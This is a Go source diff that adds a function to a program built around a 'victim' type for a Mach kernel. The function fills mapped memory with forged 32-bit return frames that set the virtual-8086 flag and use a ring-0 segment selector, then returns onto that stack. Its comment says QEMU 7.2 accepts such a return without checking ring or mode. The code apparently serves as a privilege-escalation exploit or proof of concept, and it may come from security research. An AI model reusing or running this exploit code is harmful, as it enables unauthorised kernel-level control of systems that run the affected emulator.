@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/binary"
 	"fmt"
 
 	"defpager/mach"
@@ -163,4 +164,27 @@ func (v *victim) badBase() bool {
 		}
 	}
 	return true
+}
+
+// virtual8086 returns with 32 bits to virtual-8086 mode, from a stack whose address is that of some of its own frames in the kernel's map: QEMU
+// (7.2) reads it as the kernel would, and looks neither at the ring nor at the mode. Elsewhere the stack is out of reach.
+func (v *victim) virtual8086() bool {
+	const (
+		stack    = 128 << 20 // bytes: in the midst of memory
+		left     = 16 << 20  // bytes of memory for others
+		flagVM   = 1 << 17
+		selector = 0xb7c0 // of all segments: its ring is 0
+	)
+	s, ret := v.client.VMStatistics(v.client.Task())
+	must("vm_statistics", ret)
+	size := uint64(s.Free)*mach.PageSize - left
+	memory := libmach.Memory(v.pages(size/mach.PageSize), size&^mach.PageMask)
+	frame := [...]uint32{0x10, selector, flagFixed | flagIOPL | flagVM, 0, selector, selector, selector, selector, selector}
+	for at := 0; at < len(memory); at += mach.PageSize {
+		for i, w := range frame {
+			binary.LittleEndian.PutUint32(memory[at+4*i:], w)
+		}
+	}
+	shortReturn(stack)
+	return false
 }
